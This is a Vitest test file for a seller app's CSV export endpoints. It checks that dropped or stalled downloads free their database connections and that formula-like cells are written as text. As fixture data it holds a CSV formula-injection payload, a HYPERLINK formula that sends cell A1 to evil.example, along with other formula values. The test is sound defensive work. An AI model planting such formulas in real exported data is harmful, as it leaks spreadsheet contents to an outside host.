import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp } from '../../helpers/app.ts';
import { createSeller } from '../../factories/users.ts';

// CSV exports (server/db/csv-export.ts): dropped and stalled downloads never hold a database
// connection (issue 29: 15 dropped downloads used to leave COPY sessions in ClientWrite for ever and
// starve the app), and a cell a spreadsheet would run as a formula is written as text.
describe('CSV export downloads', () => {
  let app: TestApp;
  let big: Awaited<ReturnType<typeof createSeller>>;
  const EXPORT_TIMEOUT_MS = 1500;
  const LINES_PER_CHANNEL = 30_000; // ~6 MB a file: far more than the sockets between Postgres, us and the browser hold

  beforeAll(async () => {
    // A low deadline so the stalled downloads are cut within the test (production: 10 minutes).
    app = await startTestApp({ EXPORT_TIMEOUT_MS: String(EXPORT_TIMEOUT_MS), EXPORT_POOL_SIZE: '3' });
    big = await createSeller(app);
    for (const channel of ['EBAY', 'SHOPIFY']) {
      const sale = await app.services.pool.query<{ id: string }>(
        `INSERT INTO sales (user_id, channel, order_id, ordered_at, channel_modified_at, currency, payment_status)
         VALUES ($1, $2, 'BULK-1', now(), now(), 'USD', 'PAID') RETURNING id`,
        [big.user.id, channel],
      );
      await app.services.pool.query(
        `INSERT INTO sale_lines (sale_id, line_id, sku, title, quantity, price_cents)
         SELECT $1, g::text, 'SKU-' || g, repeat('A long enough product title ', 6) || g, 1, 999 FROM generate_series(1, $2::int) g`,
        [sale.rows[0]!.id, LINES_PER_CHANNEL],
      );
    }
  });
  afterAll(() => app?.close());

  const exportUrl = (channel: 'ebay' | 'shopify') => `${app.url}/api/v1/user/${big.user.id}/${channel}-sales/export`;

  /**
   * Reads until `bytes` arrived, then either drops the connection or stops reading. A stalled reader
   * waits to be cut off by the server's deadline; whether the file fitted in the sockets' buffers
   * first depends on the kernel, so after the deadline and a margin it gives up on its own.
   */
  function download(url: string, bytes: number, then: 'drop' | 'stall'): Promise<{ status: number; received: number; cutByServer: boolean }> {
    return new Promise((resolve) => {
      let status = 0;
      let received = 0;
      let giveUp: NodeJS.Timeout | undefined;
      let gaveUp = false;
      const done = () => {
        clearTimeout(giveUp);
        resolve({ status, received, cutByServer: then === 'stall' && !gaveUp });
      };
      const req = http.get(url, { headers: { authorization: `Bearer ${big.token}` }, agent: false }, (res) => {
        status = res.statusCode ?? 0;
        res.on('data', (chunk: Buffer) => {
          received += chunk.length;
          if (received < bytes) return;
          if (then === 'drop') req.destroy();
          else if (!res.isPaused()) {
            res.pause();
            giveUp = setTimeout(() => {
              gaveUp = true;
              req.destroy();
            }, EXPORT_TIMEOUT_MS + 3000);
          }
        });
        res.on('close', done);
        res.on('error', () => undefined);
      });
      // Cut before any answer: status 0 (the assertions below say whether that was expected).
      req.on('error', done);
    });
  }

  /** Health and the viewer query both answer promptly. */
  async function answersQuickly() {
    const timed = async <T>(work: () => Promise<T>) => {
      const started = Date.now();
      const out = await work();
      return { out, ms: Date.now() - started };
    };
    const health = await timed(() => fetch(`${app.url}/api/v1/health`, { signal: AbortSignal.timeout(10_000) }));
    const viewer = await timed(() =>
      fetch(`${app.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${big.token}` },
        body: '{"query":"{ viewer { id } }"}',
        signal: AbortSignal.timeout(10_000),
      }).then((r) => r.json()),
    );
    expect(health.out.status).toBe(200);
    expect(viewer.out.data?.viewer?.id).toEqual(expect.any(String));
    // A liveness check, not a benchmark: a starved pool makes these wait for ever, so they time out
    // after 10 s and fail above. The time is printed (well under a second on a quiet machine).
    console.log(`export-downloads: health ${health.ms} ms, viewer ${viewer.ms} ms while exports stall`);
  }

  const activeCopies = async () =>
    (
      await app.services.pool.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle' AND query LIKE 'COPY (%'`,
      )
    ).rows[0]!.n;

  it('keeps the app answering through 30 dropped and 5 stalled downloads, and leaves no COPY behind', async () => {
    const stalled = Array.from({ length: 5 }, (_, i) => download(exportUrl(i % 2 ? 'shopify' : 'ebay'), 4096, 'stall'));
    const dropped = Array.from({ length: 30 }, (_, i) => download(exportUrl(i % 2 ? 'ebay' : 'shopify'), 2048, 'drop'));
    // While the export connections are all taken (stalled readers) and more downloads wait for one.
    await new Promise((r) => setTimeout(r, 300));
    await answersQuickly();
    const slow = await Promise.all(stalled);
    // Every dropped download got its answer started (none was refused or cut before its first byte).
    expect((await Promise.all(dropped)).map((d) => d.status)).toEqual(Array(30).fill(200));
    await answersQuickly();
    for (const s of slow) expect(s.status).toBe(200);
    expect(slow.every((s) => s.received >= 4096)).toBe(true);

    // Closed connections end their backends at once; allow the server a moment to notice.
    const deadline = Date.now() + 5000;
    while ((await activeCopies()) > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    expect(await activeCopies()).toBe(0);
  });

  it('writes formula cells as text and keeps numbers, quotes, commas and line breaks intact', async () => {
    const s = await createSeller(app);
    const sale = await app.services.pool.query<{ id: string }>(
      `INSERT INTO sales (user_id, channel, order_id, ordered_at, channel_modified_at, currency, payment_status)
       VALUES ($1, 'EBAY', '+44-ORDER', now(), now(), 'GBP', 'PAID') RETURNING id`,
      [s.user.id],
    );
    const titles = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '-5% off, "best" price', '@SUM(1+1)', '\tTabbed', 'Two\nlines', 'Plain'];
    await app.services.pool.query(
      `INSERT INTO sale_lines (sale_id, line_id, sku, title, quantity, price_cents)
       SELECT $1, t.n::text, CASE WHEN t.n = 1 THEN '=1+2' ELSE 'SKU-' || t.n END, t.title, 1, CASE WHEN t.n = 2 THEN -150 ELSE 1000 + t.n END
         FROM unnest($2::text[]) WITH ORDINALITY AS t(title, n)`,
      [sale.rows[0]!.id, titles],
    );
    const res = await fetch(`${app.url}/api/v1/user/${s.user.id}/ebay-sales/export`, { headers: { authorization: `Bearer ${s.token}` } });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const bySku = new Map(rows.map((r) => [r.seller_sku, r]));
    expect(bySku.get("'=1+2")?.title).toBe(`'${titles[0]}`);
    expect(bySku.get('SKU-2')).toMatchObject({ title: `'${titles[1]}`, price: '-1.50' });
    expect(bySku.get('SKU-3')?.title).toBe(`'${titles[2]}`);
    expect(bySku.get('SKU-4')?.title).toBe(`'${titles[3]}`);
    expect(bySku.get('SKU-5')?.title).toBe('Two\nlines');
    expect(bySku.get('SKU-6')).toMatchObject({ title: 'Plain', order_id: "'+44-ORDER", quantity: '1', price: '10.06', currency: 'GBP', tracking_number: '' });
  });
});
